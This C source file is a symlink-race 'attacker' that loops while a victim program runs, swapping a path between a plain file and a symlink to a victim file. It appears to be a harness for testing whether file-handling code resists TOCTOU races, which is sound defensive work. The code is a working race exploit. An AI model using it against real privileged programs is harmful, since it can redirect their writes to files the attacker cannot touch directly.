/* The attacker of a race: swaps what PATH names, in a loop, until killed.
 * Run as root with --as-nobody, it first drops to nobody (the directory of
 * PATH is nobody's; the victim file is not).
 *
 *   plant-link      remove whatever PATH is (nothing, or the victim's new
 *                   file or directory), plant a link to VICTIM; again
 *   swap-file-link  make PATH a regular file of its own, then a link to
 *                   VICTIM, each renamed into place; again
 *
 * usage: attacker MODE PATH VICTIM [--as-nobody]
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <grp.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static void drop_to_nobody(void) {
  if (setgroups(0, NULL) != 0 || setgid(65534) != 0 || setuid(65534) != 0) {
    perror("attacker: cannot become nobody");
    _exit(2);
  }
}

static void remove_entry(const char *path) {
  if (unlink(path) != 0)
    rmdir(path);
}

int main(int argc, char **argv) {
  if (argc < 4) {
    fprintf(stderr, "usage: attacker MODE PATH VICTIM [--as-nobody]\n");
    return 2;
  }
  const char *mode = argv[1], *path = argv[2], *victim = argv[3];
  if (argc > 4 && strcmp(argv[4], "--as-nobody") == 0)
    drop_to_nobody();
  /* An attacker that cannot reach the directory would prove nothing. */
  char dir[4096];
  snprintf(dir, sizeof dir, "%s", path);
  char *slash = strrchr(dir, '/');
  if (slash)
    *slash = '\0';
  if (access(slash ? dir : ".", W_OK | X_OK) != 0) {
    perror("attacker: cannot write the directory of the path");
    return 2;
  }
  if (strcmp(mode, "plant-link") == 0) {
    for (;;) {
      remove_entry(path);
      symlink(victim, path);
    }
  } else if (strcmp(mode, "swap-file-link") == 0) {
    /* Renamed into place: PATH is always one or the other, never absent. */
    char file[4096], link[4096];
    snprintf(file, sizeof file, "%s.file", path);
    snprintf(link, sizeof link, "%s.link", path);
    for (;;) {
      int fd = open(file, O_WRONLY | O_CREAT | O_TRUNC, 0666);
      if (fd >= 0)
        close(fd);
      rename(file, path);
      symlink(victim, link);
      rename(link, path);
    }
  }
  fprintf(stderr, "attacker: unknown mode '%s'\n", mode);
  return 2;
}
